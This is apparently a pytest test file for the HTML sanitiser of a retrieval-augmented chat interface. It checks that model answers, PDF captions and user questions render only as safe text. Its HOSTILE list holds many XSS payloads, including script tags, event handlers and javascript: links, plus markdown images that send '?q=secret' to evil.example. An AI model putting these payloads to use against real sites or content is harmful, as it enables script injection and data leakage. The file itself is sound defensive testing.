"""Words of models, documents and people are shown as words."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from shown_html import Tags

from ingestion.elements import BBox, Chunk, Region
from rag.types import Answer, Citation, Evidence
from ui.shown import messages, safe
from ui.state.session import Exchange
from ui.words.language import LANGUAGES, speaking

EVIL = "<img src=x onerror=alert(1)>"


class Words(HTMLParser):
    """The words of a text, as a browser would show them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.text = ""
        self.feed(text)

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.text += "\n" if tag == "br" else ""


HOSTILE = [
    "<script>alert(1)</script>",
    EVIL,
    "</span><form action='http://evil.example'><input></form>",
    "</div></div><style>*{display:none}</style>",
    "<svg/onload=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<details open ontoggle=alert(1)>",
    "<a href='https://evil.example'>the manual</a>",
    "<!-- hidden --> <?php ?> <![CDATA[x]]> <!DOCTYPE html>",
    "<!--\n\n--><b>\n\n<iframe src=//evil.example></iframe>",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "![a](http://evil.example/?q=secret)",
    "![a][ref]\n\n[ref]: http://evil.example/a.png",
    "![a](\nhttp://evil.example/a.png)",
    "![a\\]b](http://evil.example/a.png)",
    "[click](javascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](<http://evil.example>)",
    "[click]( http://evil.example 'title' )",
    "[a [nested](http://evil.example) b](http://evil.example)",
    "[![a](http://evil.example/a.png)](http://evil.example)",
    "[1](http://evil.example)",
    "[1]: http://evil.example",
    "> [1]: http://evil.example",
    "[the manual][a\\]b]\n\n[a\\]b]: https://evil.example/?q=secret",
    "[the manual][a\nb]\n\n[a\nb]: https://evil.example/?q=secret",
    "[the manual]\n\n[the\nmanual]:\n  https://evil.example\n  'title'",
    "- [x][y]\n\n  [y]:\n  http://evil.example",
    "[x][]\n\n[x]: <http://evil.example>",
    "[^1]\n\n[^1]: http://evil.example",
    "<http://evil.example> <mailto:a@evil.example> https://evil.example www.evil.example a@evil.example",
    "```mermaid\ngraph TD\n\nclick A href 'http://evil.example'\n```",
    "~~~ mermaid\ngraph TD\n~~~",
    "    <img src=x>\n\n    [a](http://evil.example)",
    "| a | b |\n|---|---|\n| <img src=x> | [x](http://evil.example) |",
    "# <h1 onclick=alert(1)>\n\n[a](http://evil.example)\n===",
    "`<img src=x>` and `[a](http://evil.example)`",
    "$$\\href{javascript:alert(1)}{x}$$ \\(x\\) $x$",
    "&#10;&#10;<img src=x>&#10;&#10;![a](http://evil.example)",
    "\r\n\r\n<img src=x>\r\r![a](http://evil.example)\u2028\u2028<b>",
    'x" onmouseover="alert(1)',
]
OURS = {
    "div", "p", "a", "span", "strong", "em", "s", "code", "pre", "ul", "ol", "li", "table", "thead", "tbody", "tr",
    "th", "td", "blockquote", "hr", "br", "h1", "h2", "h3", "h4", "h5", "h6",
}  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("frame", ["{}", "Words.\n\n{}\n\nWords.", "- one\n\n  {}", "> {}", "**{}**"])
def test_markup_of_a_model_or_a_pdf_stays_words(text: str, frame: str) -> None:
    shown = safe.markdown(frame.format(text), 3, {1: "supported"})
    assert "\n" not in shown  # one line of HTML: the chat reads no Markdown in it
    assert "\r" not in shown
    for name, attributes in Tags(shown).found:
        assert name in OURS
        assert set(attributes) <= {"class", "href", "start", "style"}
        assert re.fullmatch(r"#cite-3-1", attributes.get("href") or "#cite-3-1")
        assert re.fullmatch(r"text-align:(left|right|center)", attributes.get("style") or "text-align:left")
    assert "evil" not in "".join(str(value) for _, attributes in Tags(shown).found for value in attributes.values())


@pytest.mark.parametrize("text", HOSTILE)
def test_a_question_is_shown_as_it_was_typed(text: str) -> None:
    shown = safe.question(text)
    assert {name for name, _ in Tags(shown).found} <= {"div", "br"}
    assert "\n" not in shown
    assert Words(shown).text.split() == text.split()


def test_formatting_becomes_html() -> None:
    shown = safe.markdown("**bold**, *it*, `co\nde`, ~~no~~\nnext\n\n1. one\n2. two\n\n```\na\n\nb\n```\n\n# Head")
    for part in ("<strong>bold</strong>", "<em>it</em>", "<code>co de</code>", "<s>no</s>", "<br />", "<li>one</li>",
                 "a&#10;&#10;b", "<h1>Head</h1>"):  # fmt: skip
        assert part in shown, part
    table = safe.markdown("| a | b |\n|---|---|\n| 1 < 2 | x > y [1] |", 2, {1: "supported"})
    assert '<span class="ps-column">a</span>1 &lt; 2</td>' in table
    assert "#cite-2-1" in table
    assert safe.markdown("  ") == ""


def test_citations_become_links_that_name_turn_and_number() -> None:
    text = "Turn it left [1]. Not so [2, 3]; unknown [9], [1, 9]. `a[1]` \\[1]"
    shown = safe.markdown(text, 4, {1: "supported", 2: "weak", 3: "unsupported"})
    assert 'left\u00a0<a href="#cite-4-1">' in shown
    links = [attributes for name, attributes in Tags(shown).found if name == "a"]
    assert [link["href"] for link in links] == ["#cite-4-1", "#cite-4-2", "#cite-4-3"]
    assert [link.get("title") for link in links] == [None, "only weakly supported", "not found in the evidence"]
    assert [link.get("class") for link in links] == [None, "ps-weak", "ps-unsupported"]
    assert "unknown [9], [1, 9]." in shown
    assert "<code>a[1]</code> [1]" in shown


@pytest.mark.parametrize("code", list(LANGUAGES))
def test_what_is_not_borne_out_is_marked_in_every_language(code: str) -> None:
    with speaking(code):
        shown = safe.markdown("It is so [1], and so [2].", 1, {1: "weak", 2: "unsupported"})
    links = [attributes for name, attributes in Tags(shown).found if name == "a"]
    assert [link["class"] for link in links] == ["ps-weak", "ps-unsupported"]
    assert all(link["title"] for link in links)


def test_a_long_hostile_answer_is_drawn_in_reasonable_steps() -> None:
    """Nested and repeated openers: nothing recurses without end, and every word is still there."""
    for piece in ("[", "*a_", "> ", "- ", "`", "<", "![", "[1](", "|"):
        shown = safe.markdown(piece * 2000 + "end", 1, {1: "supported"})
        assert "end" in shown or piece in ("> ", "- ")  # blocks in blocks are left out from a depth on


def test_an_attack_in_name_caption_and_quote_is_only_words() -> None:
    chunk = Chunk("c1", "d1", "figure", EVIL, (Region(1, BBox(10, 10, 60, 60)),), caption=f'Figure 1 "{EVIL}')
    evidence = Evidence(1, chunk, f"{EVIL}.pdf", EVIL, None, None, (100, 100))
    citation = Citation(1, "d1", 1, chunk.bbox, "figure", chunk.caption, EVIL, None, False)
    answer = Answer(f"See {EVIL} [1]", (citation,), (evidence,), False, 2, "m", 0.1, f"Note {EVIL}")
    exchange = Exchange(1, f"{EVIL}?", None, "done", (evidence,), 0.1, answer.text, answer)
    shown = "\n".join(str(message["content"]) for message in messages.conversation([exchange]))
    tags = Tags(shown)
    assert {name for name, _ in tags.found} == {"span", "div", "a", "img", "p", "ul", "li"}  # all ours
    assert {key for _, attributes in tags.found for key in attributes} == {"class", "href", "title", "src", "alt"}
    assert [a["src"] for name, a in tags.found if name == "img"] == ["pagesight/cutout/d1/c1"]
    assert "not found in the evidence" in shown
    assert "2 citations" in shown


def test_a_toast_is_escaped() -> None:
    assert "<" not in safe.toast(EVIL)


def test_a_cell_knows_the_name_of_its_column() -> None:
    """For phones, which show the columns of a table below each other."""
    table = "| Code | <b>Meaning</b> | |\n|---|---|---|\n| E1 | **no** water | x |\n\n| A |\n|---|\n| b |"
    shown = safe.markdown(table)
    assert '<td><span class="ps-column">Code</span>E1</td>' in shown
    assert '<td><span class="ps-column">&lt;b&gt;Meaning&lt;/b&gt;</span><strong>no</strong> water</td>' in shown
    assert "<td>x</td>" in shown and '<td><span class="ps-column">A</span>b</td>' in shown
